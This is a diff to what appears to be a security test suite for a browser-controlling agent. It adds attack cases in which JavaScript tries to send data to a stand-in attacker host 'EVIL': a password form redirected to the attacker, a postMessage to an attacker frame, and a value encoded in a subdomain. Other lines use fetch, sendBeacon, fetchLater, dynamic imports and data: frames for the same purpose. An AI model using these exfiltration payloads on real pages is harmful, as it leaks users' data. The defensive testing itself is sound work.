@@ -56,6 +56,7 @@ ADDRESSES = [
     press("tabs with data, with a blob, and with an address that holds markup", "window.open('data:text/html,x'); window.open('/other?a\\n<b'); window.open(window.URL.createObjectURL(new Blob(['<script>fetch(`EVIL/x`)</scr' + 'ipt>'], {type: 'text/html'})))", tells=("refuses to open data:text/html,x", "refuses to open http://"), leaves=True),
     press("a script as an address", "location = \"javascript:fetch('EVIL/x')\""),
     Attack("a server that leads to a file", "<a href='/MARK/to-file'>Go MARK</a>", calls=(("click", {"ref": "{{ref:link Go MARK}}"}), *BACK), tells="a server may not lead to"),
+    press("a form with a password that a server leads to the attacker", _FORM.format("/MARK/moved").replace("<input", "<input type=password"), calls=(*GO, *BACK), tells=_ELSEWHERE),
     Attack("a server that leads to the attacker", "<a href='/MARK/to-evil'>Go MARK</a>", calls=(("click", {"ref": "{{ref:link Go MARK}}"}), *BACK), tells=_ELSEWHERE),
 ]  # fmt: skip
 
@@ -82,6 +83,8 @@ LISTS = [
     at_once("a sandboxed frame", f"const f = document.createElement('iframe'); f.sandbox = 'allow-scripts'; f.srcdoc = '<img src=\"EVIL/a\"><script>fetch(`EVIL/b`, {{mode: `no-cors`}})</scr' + 'ipt>'; {_BODY}(f)"),
     at_once("a frame of data", f"{_BODY}(Object.assign(document.createElement('iframe'), {{src: 'data:text/html,<script>fetch(`EVIL/b`, {{mode: `no-cors`}})</script>'}}))"),
     at_once("a frame without credentials", f"const f = document.createElement('iframe'); f.credentialless = true; f.src = 'EVIL/a'; {_BODY}(f)"),
+    at_once("a message to a frame", f"const f = document.createElement('iframe'); f.src = 'EVIL/reader'; f.onload = () => f.contentWindow.postMessage('4711', '*'); {_BODY}(f)"),
+    at_once("a host below the attacker's", "new Image().src = 'http://4711.EVILHOST/x'"),
     at_once("a form into a frame", f"{_BODY}(Object.assign(document.createElement('iframe'), {{name: 'in'}})); " + _FORM.format("EVIL/x").replace("f.submit", "f.target = 'in'; f.submit")),
     at_once("fetch later", "window.fetchLater ? fetchLater('EVIL/x', {activateAfter: 0}) : navigator.sendBeacon('EVIL/x')"),
     at_once("a module", "import('EVIL/x.js').catch(() => 0)"),
